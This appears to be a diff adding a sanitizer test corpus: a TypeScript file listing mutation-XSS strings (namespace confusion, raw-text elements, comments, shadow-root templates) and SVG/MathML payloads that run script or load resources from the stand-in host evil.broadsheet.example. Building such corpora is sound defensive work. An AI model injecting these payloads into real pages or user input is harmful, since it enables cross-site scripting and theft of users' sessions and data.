@@ -1,0 +1,60 @@
+import { CALL, family } from './payload.ts';
+
+const IMG = `<img src=x onerror=${CALL}>`;
+
+/** Mark-up that means another thing when it is written down and read again: mutations across name spaces and raw-text elements. */
+export const mutations = family('mutation', [
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${IMG.replaceAll('<', '&lt;')}">`,
+  `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
+  `<svg></p><style><a id="</style>${IMG}">`,
+  `<math></p><textarea><!--</textarea>${IMG}`,
+  `<svg><desc><table><style></table><a title="</style>${IMG}">`,
+  `<svg><title><style><a id="</title>${IMG}"></style>`,
+  `<math><annotation-xml encoding="text/html"><p>words</p>${IMG}</annotation-xml></math>`,
+  `<math><annotation-xml encoding="application/xhtml+xml"><style>${IMG}</style></annotation-xml></math>`,
+  `<svg><foreignObject><p>words</p>${IMG}<math><mi><style>&lt;img src=x onerror=${CALL}&gt;</style></mi></math></foreignObject></svg>`,
+  `<noscript><style></noscript>${IMG}</style>`,
+  `<noembed>&lt;/noembed&gt;${IMG}</noembed>`,
+  `<noframes><style></noframes>${IMG}</style>`,
+  `<xmp><p title="</xmp>${IMG}">words</p></xmp>`,
+  `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`,
+  `<pre>\n\n&lt;img src=x onerror=${CALL}&gt;</pre>`,
+  `<textarea></textarea><p>&lt;/textarea&gt;${IMG}</p>`,
+  `<title>&lt;/title&gt;${IMG}</title>`,
+  `<iframe><p title="</iframe>${IMG}"></iframe>`,
+  `<template><p>words</p>${IMG}<template>${IMG}</template></template>`,
+  `<div><template shadowrootmode="open"><p>Words in a root of their own, with a sentence that is long enough.</p>${IMG}<slot></slot></template>light words</div>`,
+  `<div><template shadowrootmode="closed"><p>closed words</p>${IMG}</template></div>`,
+  `<select><style></select>${IMG}</style></select>`,
+  `<select><option>one<template>${IMG}</template></option><button><selectedcontent>${IMG}</selectedcontent></button></select>`,
+  `<table><td>${IMG}<table><caption><svg><desc><td>${IMG}`,
+  `<a><table><td><a>${IMG}</a></td></table></a>`,
+  `<p><b><i><p>${IMG}</b></i></p>`,
+  `<math><mi//xlink:href="data:x,${CALL}">x</mi></math>`,
+  `<svg:svg onload="${CALL}"/><math:mi href="javascript:${CALL}">x</math:mi>`,
+  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${CALL}</x:script>`,
+  `<![CDATA[${IMG}]]>`,
+  `<svg><![CDATA[<p>${IMG}]]></svg>`,
+  `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`,
+  `<!--><script>${CALL}</script>-->`,
+  `<!-- --!>${IMG}-->`,
+  `<?xml-stylesheet href="javascript:${CALL}"?><?php ${IMG} ?>`,
+  `<!DOCTYPE x [<!ENTITY e "${CALL}">]><p>&e;</p>`,
+  `<plaintext>${IMG}`,
+]);
+
+/** Drawings and formulas that act. */
+export const drawings = family('drawing', [
+  `<svg><animate attributeName="href" values="javascript:${CALL}" onbegin="${CALL}" begin="0s"/></svg>`,
+  `<svg><a id="d"><set attributeName="href" to="javascript:${CALL}"/><text y="9">words</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${CALL}'/></svg>#x"/></svg>`,
+  `<svg><use href="https://evil.broadsheet.example/a.svg#x"/></svg>`,
+  `<svg><image href="https://evil.broadsheet.example/i.png"/><feImage href="https://evil.broadsheet.example/f.png"/></svg>`,
+  `<svg><style>@import "https://evil.broadsheet.example/s.css"; *{background:url(https://evil.broadsheet.example/u.png)}</style></svg>`,
+  `<svg><handler type="text/javascript">${CALL}</handler><listener event="load"/></svg>`,
+  `<svg><text fill="url(https://evil.broadsheet.example/#x)" filter="url(https://evil.broadsheet.example/#y)">drawn</text></svg>`,
+  `<p>So <math><maction actiontype="statusline#https://evil.broadsheet.example" xlink:href="javascript:${CALL}"><mi>x</mi></maction></math>.</p>`,
+  `<p>So <math><mtext style="background:url(https://evil.broadsheet.example/m.png)" class="x" id="y"><img src=x onerror=${CALL}></mtext></math>.</p>`,
+  `<p>So <math><mi mathcolor="url(x)" mathbackground="red" mathsize="900em" dir="rtl" onclick="${CALL}">x</mi><mspace width="99999em"/></math>.</p>`,
+  `<p>So <math><semantics><mi>x</mi><annotation-xml encoding="SVG1.1"><svg onload="${CALL}"/></annotation-xml><annotation encoding="text/html"><b onclick="${CALL}">x</b></annotation></semantics></math>.</p>`,
+]);
